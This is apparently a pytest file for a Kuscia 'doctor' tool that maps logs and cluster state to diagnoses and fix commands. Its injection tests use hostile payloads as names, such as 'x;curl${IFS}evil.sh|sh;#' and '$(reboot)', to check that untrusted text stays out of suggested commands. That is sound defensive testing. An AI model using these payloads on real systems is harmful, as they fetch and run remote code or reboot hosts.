"""The findings of `doctor` in recorded starts of Kuscia, in errors of the steps and in the state of the cluster."""

from dataclasses import replace
from typing import Any

import pytest

from kuscia_hooks.core.config.release import Release
from kuscia_hooks.inspect import diagnosis
from kuscia_hooks.inspect.diagnosis import diagnose
from kuscia_hooks.inspect.finding import Finding
from kuscia_hooks.inspect.kuscia_state import RouteState
from kuscia_hooks.inspect.report import Report
from kuscia_hooks.inspect.snapshot import MASTER as MASTER_GATEWAY
from kuscia_hooks.inspect.snapshot import ContainerState, PodState, Probe, Snapshot, WarningEvent
from tests.hooks.builders import MASTER_ENDPOINT, lite_release, master_release
from tests.hooks.recordings import RECORDINGS, startup_log

MASTER, LITE = master_release(), lite_release()


def kuscia(config: Release, log: str, **more: Any) -> Snapshot:
    """Return a snapshot with a Kuscia container that is not ready."""
    container = ContainerState(config.mode, log=log, end_code=more.pop("end_code", 0), **more)
    return Snapshot(node=PodState("ns", "the-pod", config.mode, "Running", containers=(container,)))


def step(log: str, name: str = "prepare") -> Snapshot:
    """Return a snapshot of the Kuscia pod while `prepare` waits, or of the pod of another step."""
    pod = PodState("ns", "the-pod", name, "Pending", containers=(ContainerState(name, running=True, log=log),))
    return Snapshot(node=pod) if name == "prepare" else replace(HEALTHY, steps=(pod,))


HEALTHY = Snapshot(
    node=PodState("ns", "the-pod", "master", "Running", containers=(ContainerState("master", ready=True),))
)


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, findings
    return findings[0]


STARTUPS = {
    "badendpoint": (LITE, "host-not-found", "set lite.master.endpoint: "),
    "badkey": (MASTER, "invalid-domain-key", "kubectl rollout restart deployment/kuscia-master -n ns"),
    "badmode": (LITE, "unknown-mode", "kubectl get configmap kuscia-lite-carl-config -n ns"),
    "badpw": (MASTER, "database-login", "kubectl edit secret db -n ns"),
    "badtoken-newkey": (LITE, "deploy-token-mismatch", "master.domains.carl.allowRekey: true"),
    "badtoken-samekey": (LITE, "handshake-timeout", "kubectl rollout restart deployment/kuscia-lite-carl -n ns"),
    "dashdb": (MASTER, "database-not-found", "CREATE DATABASE `kuscia`"),
    "dbdown": (MASTER, "database-unreachable", "db.example.com"),
    "https-to-http": (
        LITE,
        "wrong-scheme",
        "set lite.master.endpoint: http://kuscia-master.kuscia-x-master.svc.cluster.local:1080",
    ),
    "nodb": (MASTER, "database-not-found", "CREATE DATABASE `kuscia`"),
    "noid": (LITE, "domain-id-missing", "kubectl get configmap kuscia-lite-carl-config -n ns"),
    "reserved": (LITE, "reserved-domain-id", "kubectl get configmap kuscia-lite-carl-config -n ns"),
    "runc": (LITE, "runc-requires-privileged", "set lite.runtime: runk"),
    "unknown-domain": (LITE, "unknown-domain", f"set master.domains.dora.endpoint: {MASTER.gateway}"),
}


def test_covers_every_recorded_startup() -> None:
    assert {path.stem for path in (RECORDINGS / "startup-cases").glob("*.log")} == {*STARTUPS, "sqlite"}


@pytest.mark.parametrize("name", STARTUPS)
@pytest.mark.parametrize("run", ["log", "previous"])
def test_recognizes_recorded_startup(name: str, run: str) -> None:
    config, cause, fix = STARTUPS[name]
    log = {"log": startup_log(name)} if run == "log" else {"log": "starting", "previous": startup_log(name)}
    found = only(diagnose(config, kuscia(config, **log)))
    assert found.id == cause
    assert fix in found.fix
    assert "ns/the-pod" in found.seen
    assert not {"{", "}"} & set(found.fix.replace("{.data}", ""))


def test_finds_nothing_in_log_of_successful_start() -> None:
    """That log has many transient errors."""
    healthy = kuscia(MASTER, startup_log("sqlite"), ready=True, end_code=None)
    assert diagnose(MASTER, healthy) == []
    starting = kuscia(MASTER, startup_log("sqlite"), end_code=None, running=True)
    assert diagnose(MASTER, starting) == []


def test_ignores_earlier_failure_of_ready_node() -> None:
    assert diagnose(MASTER, kuscia(MASTER, startup_log("badpw"), ready=True)) == []


@pytest.mark.parametrize(
    ("config", "line", "cause"),
    [
        (LITE, "detail -> deploy token found but used, please use an unused deploy token", "deploy-token-used"),
        (LITE, "response status code [500], detail -> deploytokenstatus of domain is empty", "deploy-token-pending"),
        (LITE, "duplicate node name with other domain, please change this node's name", "node-name-taken"),
        (LITE, "[Module] agent is finished with err=capacity config is empty", "runk-requires-capacity"),
        (LITE, "failed to get in cluster config, err: open /var/run: no such file", "service-account-token-missing"),
        (LITE, 'pods "test" is forbidden: User "x" cannot get resource "pods"', "runk-forbidden"),
        (LITE, "host IP unknown", "no-eth0"),
        (LITE, "failed to create fsnotify watcher: too many open files", "inotify-limit"),
        (LITE, "unknown runtime: ", "unknown-runtime"),
        (LITE, f"[PROBE] failed to probe master endpoint {MASTER_ENDPOINT}, detail-> dial tcp 1.2.3.4:1080: "
         "connect: connection refused", "master-down"),
        (LITE, f"[PROBE] failed to probe master endpoint {MASTER_ENDPOINT}, detail-> dial tcp 1.2.3.4: i/o timeout",
         "master-unreachable"),
        (LITE, f"[PROBE] failed to probe master endpoint {MASTER_ENDPOINT}, detail-> unexpected status code 502",
         "not-a-gateway"),
        (LITE, "[PROBE] failed to probe master endpoint http://m.x:1080, detail-> sending request error: Get "
         '"http://m.x:1080": EOF', "wrong-scheme"),
        (MASTER, "ping datastore endpoint error: Error 1040: Too many connections", "too-many-connections"),
        (MASTER, "ping datastore endpoint error: pq: password authentication failed for user \"k\"", "database-login"),
        (MASTER, 'ping datastore endpoint error: pq: database "k" does not exist', "database-not-found"),
        (MASTER, "ping datastore endpoint error: this authentication plugin is not supported", "database-error"),
        (MASTER, "FATAL error building kubernetes client config from token, detail-> stat "
         "/home/kuscia/etc/kubeconfig: no such file or directory", "state-of-another-domain"),
        (MASTER, 'time="2026" level=fatal msg="starting kubernetes: preparing server: bootstrap data already found and '
         'encrypted with different token"', "state-of-another-domain"),
        (MASTER, "[Module] k3s is finished with err=startup process failed at first time, so stop at once, error: "
         "process [k3s][17] only existed 812 ms, less than 3000 ms, with error: exit status 1",
         "state-of-another-domain"),
        (MASTER, "[Module] k3s wait ready failed with wait k3s ready timeout, so start gracefulExit", "k3s-not-ready"),
        (MASTER, "ERROR tls/crypt.go:337 load key data failed: invalid private key, should be PEM block format, try "
         "key file", "invalid-domain-key"),
        (MASTER, "FATAL modules/runtime.go:195 can't parse key", "invalid-domain-key"),
        (LITE, "Domain key data is empty. Please provide a valid domainKeyData.", "invalid-domain-key"),
        (LITE, "Load domain key file error: illegal base64 data at input byte 4", "invalid-domain-key"),
        (LITE, "Decode domain key data error: can't parse key", "invalid-domain-key"),
        (MASTER, "Load kuscia config failed. protocol: XTLS is unsupported", "unknown-protocol"),
    ],
)  # fmt: skip
def test_recognizes_line_of_kuscia(config: Release, line: str, cause: str) -> None:
    found = only(diagnose(config, kuscia(config, f"2026-11-24 01:10:07.475 INFO a.go:1 begin\n{line}\nmore\n")))
    assert found.id == cause
    assert found.seen.endswith(line.strip())


def test_ignores_interrupted_k3s() -> None:
    """The supervisor prints this for every module that it stops early after another one failed."""
    line = "process [k3s][17] only existed 812 ms, less than 3000 ms, with error: signal: interrupt"
    found = only(diagnose(MASTER, kuscia(MASTER, f"{line}\n[Module] coredns is finished with err=x\n")))
    assert found.id == "unknown-exit"


def test_fix_swaps_http_for_https() -> None:
    log = (
        '[PROBE] failed to probe master endpoint http://m.x:1080, detail-> sending request error: Get "http://m.x": EOF'
    )
    assert "set lite.master.endpoint: https://m.x:1080" in only(diagnose(LITE, kuscia(LITE, log))).fix


def test_reports_unknown_exit() -> None:
    found = only(diagnose(LITE, kuscia(LITE, "something new\n", end_code=3)))
    assert found.id == "unknown-exit"
    assert "3" in found.cause
    assert "--previous" in found.fix
    assert found.seen.endswith("something new")


@pytest.mark.parametrize(
    ("error_id", "fix"),
    [
        ("wrong-scheme", f"set lite.master.endpoint: {MASTER_ENDPOINT.replace('https', 'http')}"),
        ("gateway-of-another-domain", "set lite.master.endpoint "),
        ("host-not-found", "kubectl get services -A"),
        ("master-down", "kubectl kuscia doctor"),
        ("master-unreachable", f"curl -kv --max-time 5 {MASTER_ENDPOINT}/"),
        ("not-a-gateway", f"curl -kv {MASTER_ENDPOINT}/"),
        ("unknown-domain", f"master.domains.carl.endpoint: {MASTER.gateway}"),
        ("deploy-token-mismatch", "master.domains.carl.allowRekey: true"),
        ("certificate-mismatch", "kubectl get configmap kuscia-lite-carl-domain-cert -n ns"),
        ("runk-forbidden", "upgrade release kuscia in namespace ns"),
    ],
)
def test_replaces_fix_of_prepare_by_command_for_release(error_id: str, fix: str) -> None:
    log = (
        "waiting for the domain key (0 s): [secret-not-found] something else\n    fix: an older fix\n"
        f"waiting for the master (20 of 300 s): [{error_id}] the message\n    fix: the fix of the step\n"
    )
    found = only(diagnose(LITE, step(log)))
    assert (found.id, found.cause) == (error_id, "the message")
    assert fix in found.fix
    assert "the fix of the step" not in found.fix


@pytest.mark.parametrize(
    ("error_id", "fix"),
    [
        ("database-login", "kubectl edit secret db -n ns"),
        ("database-not-found", "CREATE DATABASE `kuscia`"),
        ("state-of-another-domain", "set master.datastore.database "),
        ("too-many-connections", "max_connections"),
    ],
)
def test_replaces_fix_of_master_prepare_by_command_for_release(error_id: str, fix: str) -> None:
    found = only(diagnose(MASTER, step(f"waiting for the datastore (10 s): [{error_id}] the message\n")))
    assert (found.id, found.cause) == (error_id, "the message")
    assert fix in found.fix


@pytest.mark.parametrize(
    ("lines", "fix"),
    [
        ("    fix: kubectl create secret\n    see: kubectl get secret\n", "kubectl create secret"),
        ("    see: kubectl get secret\n", "kubectl get secret"),
        ("", "kubectl logs the-pod -n ns -c prepare"),
    ],
)
def test_keeps_fix_of_step_for_other_errors(lines: str, fix: str) -> None:
    log = f"waiting for the key (10 of 60 s): [secret-not-found] Secret ns/x not found\n{lines}unrelated\n"
    found = only(diagnose(LITE, step(log)))
    assert (found.id, found.cause, found.fix) == ("secret-not-found", "Secret ns/x not found", fix)


def test_reports_each_of_several_errors_of_a_step() -> None:
    log = (
        "ERROR [several-errors] data: 2 errors:\n"
        "  - [secret-not-found] Secret ns/a not found\n        fix: kubectl create secret a\n"
        "  - [runk-forbidden] cannot create pods\n"
        "retrying in 30 s\n"
    )
    findings = diagnose(LITE, replace(kuscia(LITE, "", ready=True), steps=step(log, "data").steps))
    assert [(found.id, found.cause) for found in findings] == [
        ("secret-not-found", "Secret ns/a not found"),
        ("runk-forbidden", "cannot create pods"),
    ]
    assert findings[0].fix == "kubectl create secret a"
    assert findings[1].fix.startswith("upgrade release kuscia in namespace ")


def test_reports_termination_message_of_failed_step_without_log() -> None:
    message = '{"error": "secret-not-found", "message": "Secret ns/x not found", "fix": "kubectl create x"}'
    container = ContainerState("data", end_code=2, termination=message)
    pod = PodState("ns", "the-pod", "data", "Failed", containers=(container,))
    found = only(diagnose(MASTER, replace(HEALTHY, steps=(pod,))))
    assert (found.id, found.cause, found.fix) == (
        "secret-not-found",
        "Secret ns/x not found",
        "kubectl create x",
    )


def test_reports_failed_step_that_reported_no_error() -> None:
    container = ContainerState("data", end_code=137, log="Killed\n")
    found = only(diagnose(MASTER, replace(HEALTHY, steps=(PodState("ns", "p", "data", "Failed", "", (container,)),))))
    assert found.id == "step-failed"
    assert "137" in found.cause
    assert found.seen.endswith("Killed")


def test_ignores_errors_of_step_that_succeeded_in_the_end() -> None:
    log = "waiting for the key (1 s): [secret-not-found] Secret ns/x not found\ncreated=1\n"
    container = ContainerState("prepare", ready=True, end_code=0, log=log)
    ready = ContainerState("master", ready=True)
    assert diagnose(MASTER, Snapshot(node=PodState("ns", "p", "master", "Running", "", (container, ready)))) == []


@pytest.mark.parametrize(
    ("pod", "cause"),
    [
        (PodState("ns", "p", "master", "Pending", unscheduled="0/1 nodes: Insufficient memory"), "pod-unscheduled"),
        (
            PodState(
                "ns", "p", "master", "Pending", containers=(ContainerState("master", waiting="ImagePullBackOff"),)
            ),
            "image-pull",
        ),
        (
            PodState(
                "ns",
                "p",
                "master",
                "Pending",
                containers=(ContainerState("master", waiting="CreateContainerConfigError"),),
            ),
            "container-create",
        ),
        (
            PodState(
                "ns",
                "p",
                "master",
                "Running",
                containers=(ContainerState("master", end_reason="OOMKilled", end_code=137),),
            ),
            "out-of-memory",
        ),
    ],
)
def test_reports_pod_that_does_not_run(pod: PodState, cause: str) -> None:
    assert only(diagnose(MASTER, Snapshot(node=pod))).id == cause


def test_reports_rejected_or_missing_pod() -> None:
    refused = WarningEvent("ns", "ReplicaSet", "kuscia-master-5d5f7c9b7b", "FailedCreate", "webhook denied the request")
    found = only(diagnose(MASTER, Snapshot(warnings=(refused,))))
    assert found.id == "pod-not-created"
    assert "webhook denied" in found.cause
    assert found.fix == "kubectl describe replicaset kuscia-master-5d5f7c9b7b -n ns"
    assert only(diagnose(MASTER, Snapshot())).id == "no-pod"


def test_reports_secret_that_changed_after_start() -> None:
    before = {"secrets": {"own-domain-key/domain.key": "a", "db/password": "b"}, "dnsServers": []}
    assert diagnose(MASTER, replace(HEALTHY, started_with=before, present=before)) == []

    password = {"secrets": {"own-domain-key/domain.key": "a", "db/password": "c"}}
    found = only(diagnose(MASTER, replace(HEALTHY, started_with=before, present=password)))
    assert found.id == "secret-changed"
    assert "ns/db " in found.cause
    assert found.fix == "kubectl rollout restart deployment/kuscia-master -n ns"

    # The marks are made with the domain key, so a new key changes all of them.
    both = {"secrets": {"own-domain-key/domain.key": "x", "db/password": "y"}}
    assert "ns/own-domain-key " in only(diagnose(MASTER, replace(HEALTHY, started_with=before, present=both))).cause


def test_reports_recreated_dns_service() -> None:
    evidence = replace(
        kuscia(LITE, "", ready=True), started_with={"dnsServers": ["10.1.1.1"]}, present={"dnsServers": ["10.2.2.2"]}
    )
    found = only(diagnose(LITE, evidence))
    assert found.id == "dns-service-recreated"
    assert found.fix == "kubectl rollout restart deployment/kuscia-lite-carl -n ns"


def test_fix_for_gateway_of_lite_names_its_endpoint_and_namespace() -> None:
    wrong = Probe("alice", "https://alice:1080", (Report("wrong-scheme", "wrong scheme"),))
    found = only(diagnose(MASTER, replace(HEALTHY, probes=(wrong,))))
    assert found.id == "wrong-scheme"
    assert "set master.domains.alice.endpoint: http://alice:1080" in found.fix

    down = Probe("alice", "https://alice:1080", (Report("master-down", "connection refused"),))
    assert "-n lite-alice" in only(diagnose(MASTER, replace(HEALTHY, probes=(down,)))).fix


def test_does_not_suggest_values_for_gateway_of_release() -> None:
    probe = Probe("kuscia-system", MASTER.gateway, (Report("wrong-scheme", "wrong scheme", see="curl it"),))
    assert only(diagnose(MASTER, replace(HEALTHY, probes=(probe,)))).fix == "curl it"


def test_reports_domain_that_master_does_not_have() -> None:
    found = only(diagnose(LITE, replace(kuscia(LITE, "", ready=True), known=False)))
    assert found.id == "unknown-domain"
    assert f"master.domains.carl.endpoint: {MASTER.gateway}" in found.fix


@pytest.mark.parametrize(
    ("error_id", "fix"),
    [
        ("kusciaapi-token-rejected", "kubectl rollout restart"),
        ("kusciaapi-certificate-mismatch", "kubectl rollout restart"),
        ("kusciaapi-unreachable", "kubectl get networkpolicies"),
    ],
)
def test_reports_unusable_kusciaapi(error_id: str, fix: str) -> None:
    found = only(diagnose(MASTER, replace(HEALTHY, api=(Report(error_id, "the message", "the fix of the step"),))))
    assert found.id == error_id
    assert fix in found.fix


def domain(name: str, status: str, node: str = "n") -> dict[str, str]:
    return {"domain": name, "node": node, "status": status, "version": "", "heartbeat": ""}


def test_reports_domains_without_ready_node() -> None:
    rows = (domain("alice", "NotReady"), domain("bob", "no such domain", ""))
    first, second = diagnose(MASTER, replace(HEALTHY, domains=rows))
    assert (first.id, second.id) == ("node-not-ready", "domain-not-found")
    assert "kubectl kuscia doctor -n lite-alice" in first.fix
    assert "component=register" in second.fix


def test_ignores_old_node_next_to_ready_one() -> None:
    rows = (domain("alice", "NotReady", "old"), domain("alice", "Ready", "new"))
    assert diagnose(MASTER, replace(HEALTHY, domains=rows)) == []


@pytest.mark.parametrize(
    ("reason", "cause"),
    [
        ("LastUpdateAt=x, Message=TokenNotGenerate, Reason:DestinationIsNotAuthrized", "route-no-handshake"),
        ("LastUpdateAt=x, Message=TokenNotGenerate, Reason:TokenNotGenerate", "route-no-token"),
        ("LastUpdateAt=x, Message=DestinationUnreachable, Reason:DestinationUnreachable", "route-unreachable"),
        ("LastUpdateAt=x, Message=HeartBeatTimeout, Reason:HeartBeatTimeout", "route-heartbeat-timeout"),
        ("LastUpdateAt=x, Message=TokenRevisionNotMatch, Reason:TokenRevisionNotMatch", "route-revision-mismatch"),
        ("no handshake yet", "route-not-registered"),
        ("no such route", "route-missing"),
        ("something new", "route-not-ready"),
    ],
)
def test_reports_route_that_is_not_ready(reason: str, cause: str) -> None:
    rows = (
        RouteState("alice", "bob", "https://bob:1080", False, reason),
        RouteState("bob", "alice", "", True, ""),
    )
    found = only(diagnose(MASTER, replace(HEALTHY, routes=rows)))
    assert found.id == cause
    assert "alice-bob" in found.cause
    assert ("component=routes" if cause == "route-missing" else "curl -kv https://bob:1080/") in found.fix


def test_names_domains_of_route_with_dashes() -> None:
    route = RouteState("org-a-node1", "org-b-node1", "https://b:1080", False, "something new")
    assert "<namespace of org-a-node1>" in only(diagnose(MASTER, replace(HEALTHY, routes=(route,)))).fix


@pytest.mark.parametrize(
    ("endpoint", "release", "namespace"),
    [
        (MASTER_ENDPOINT, "kuscia", "kuscia-master"),
        ("https://prod-kuscia-master.hub.svc.cluster.local:1080", "prod", "hub"),
        ("https://kuscia-123-master.hub.svc.cluster.local:1080", "123", "hub"),
        ("https://gateway.hub.svc.cluster.local:1080", "<master release>", "hub"),
        ("https://kuscia.example.com", "<master release>", "<master namespace>"),
    ],
)
def test_missing_route_of_lite_is_fixed_at_its_master(endpoint: str, release: str, namespace: str) -> None:
    lite = lite_release(master={"endpoint": endpoint})
    route = RouteState("carl", "bob", "", False, "no such route")
    found = only(diagnose(lite, replace(kuscia(lite, "", ready=True), routes=(route,))))
    assert found.id == "route-missing"
    assert found.fix.startswith("set master.jobs.runId ")
    assert f"upgrade release {release} in namespace {namespace}" in found.fix


def test_reports_database_warning() -> None:
    warning = Report("database-version", "MySQL 8.0.20 is older than 8.0.23")
    found = only(diagnose(MASTER, replace(HEALTHY, database=(warning,))))
    assert (found.id, found.cause) == ("database-version", warning.message)


@pytest.mark.parametrize(
    ("container", "cause"),
    [
        (ContainerState("e", waiting="ErrImagePull", message="401"), "image-pull"),
        (ContainerState("e", log="x\npthread_create failed: Resource temporarily unavailable\n"), "too-few-threads"),
        (
            ContainerState("e", log="ClientError: An error occurred (400) when calling the ListObjectsV2 operation"),
            "object-store-address-style",
        ),
        (ContainerState("e", log="urllib3.exceptions.ReadTimeoutError: Read timed out."), "read-timeout"),
    ],
)
def test_recognizes_failure_of_engine(container: ContainerState, cause: str) -> None:
    engine = PodState("engines", "job-0", "job", "Pending", containers=(container,))
    found = only(diagnose(LITE, replace(kuscia(LITE, "", ready=True), engines=(engine,))))
    assert found.id == cause
    assert "engines" in found.seen


def test_reports_engine_pods_without_lite() -> None:
    engine = PodState("engines", "job-0", "job", "Running", containers=(ContainerState("e", ready=True, running=True),))
    names = [found.id for found in diagnose(LITE, Snapshot(engines=(engine,)))]
    assert names == ["no-pod", "engine-pods-without-lite"]


def test_reports_cause_once_when_seen_twice() -> None:
    report = Report("master-down", "no gateway answers")
    evidence = replace(
        step(f"waiting for the master (20 s): [{report.id}] {report.message}\n"),
        probes=(Probe(MASTER_GATEWAY, MASTER_ENDPOINT, (report,)),),
    )
    assert only(diagnose(LITE, evidence)).id == "master-down"
    unknown = replace(step("waiting for the master (20 s): [unknown-domain] no domain carl\n"), known=False)
    assert only(diagnose(LITE, unknown)).id == "unknown-domain"


@pytest.mark.parametrize("name", ["x;curl${IFS}evil.sh|sh;#", "$(reboot)", "a'b"])
def test_text_of_master_never_reaches_a_command(name: str) -> None:
    log = f"[Module] domainroute is finished with err=domain [{name}] not found\n"
    assert name not in only(diagnose(LITE, kuscia(LITE, log))).fix


def test_quotes_names_in_commands() -> None:
    probe = Probe("alice", "https://alice:1080/$(reboot)", (Report("not-a-gateway", "HTTP 502"),))
    assert "'https://alice:1080/$(reboot)'" in only(diagnose(MASTER, replace(HEALTHY, probes=(probe,)))).fix


def test_removes_control_characters() -> None:
    log = "ping datastore endpoint error: \x1b[31mred\x07 text\n"
    found = only(diagnose(MASTER, kuscia(MASTER, log)))
    image = ContainerState("master", waiting="ErrImagePull", message="\x1b]0;title\x07")
    pod = only(diagnose(MASTER, Snapshot(node=PodState("ns", "p", "master", "Pending", "", (image,)))))
    for text in (found.cause, found.fix, found.seen, pod.cause):
        assert text.isprintable()


def test_describes_findings() -> None:
    lines = diagnosis.describe([Finding("the-id", "two\nlines", "fix it", "there")], "alice", ("events: denied",))
    assert lines == [
        "alice: 1 cause found",
        "1. [the-id] two\n   lines",
        "   fix: fix it",
        "   seen: there",
        "not checked: events: denied",
    ]
    assert diagnosis.describe([], "alice", ()) == ["alice: nothing found"]


def test_unreachable_database_comes_before_its_consequences_and_warnings_come_last() -> None:
    """Kuscia is ready until its database ends; then no API answers, and no route is READY."""
    log = "waiting for KusciaAPI of x (20 s): [kusciaapi-unreachable] cannot reach KusciaAPI\n"
    snapshot = replace(
        step(log, "register"),
        api=(Report("kusciaapi-timeout", "no answer"),),
        domains=({"domain": "alice", "status": "NotReady", "node": "n"},),
        routes=(RouteState("alice", "bob", "", False, "DestinationUnreachable"),),
        database=(Report("database-version", "it is old"), Report("database-unreachable", "refused")),
    )
    ids = [finding.id for finding in diagnose(MASTER, snapshot)]
    assert (ids[0], ids[-1]) == ("database-unreachable", "database-version")
    assert {"kusciaapi-unreachable", "kusciaapi-timeout", "node-not-ready", "route-unreachable"} < set(ids)


def test_text_has_few_of_many_findings_alike() -> None:
    numbers = range(9_900)
    routes = tuple(RouteState(f"d{number}", "alice", "", False, "TokenNotGenerate") for number in numbers)
    api = (Report("kusciaapi-timeout", "no answer"),)
    findings = diagnose(MASTER, replace(HEALTHY, routes=routes, api=api))
    assert len(findings) == 1 + len(numbers)
    lines = diagnosis.describe(findings, "kuscia-system", ())
    assert len(lines) < 30
    assert str(len(findings)) in lines[0]
    assert lines[1].startswith("1. [kusciaapi-timeout]")
    assert sum("[route-no-token]" in line and str(len(numbers) - 5) in line for line in lines) == 1


def test_cuts_very_long_lines() -> None:
    log = f"ping datastore endpoint error: {'x' * 1_000_000}\n"
    found = only(diagnose(MASTER, kuscia(MASTER, log)))
    assert found.id == "database-error"
    assert max(len(found.cause), len(found.seen)) <= 2000
